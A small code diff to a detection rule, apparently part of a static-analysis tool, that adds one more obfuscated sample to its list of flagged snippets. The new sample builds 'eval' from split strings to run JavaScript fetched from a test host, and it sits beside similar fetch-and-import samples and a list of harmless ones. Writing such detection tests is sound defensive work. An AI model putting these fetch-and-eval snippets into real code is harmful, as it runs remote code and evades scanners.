@@ -57,6 +57,7 @@ export const scriptFromNetwork: CodeRule = {
       'import("https://example.test/x.js")',
       'const t = await (await fetch("https://example.test/a.js")).text(); import(URL.createObjectURL(new Blob([t])))',
       'const w = window; w["ev" + "al"](await (await fetch("https://example.test/a")).text())',
+      'window["ev" + "al".toString()](await (await fetch("https://example.test/a")).text())',
     ],
     harmless: [
       'const r = await fetch("/api/x"); const v = JSON.parse(await r.text())',
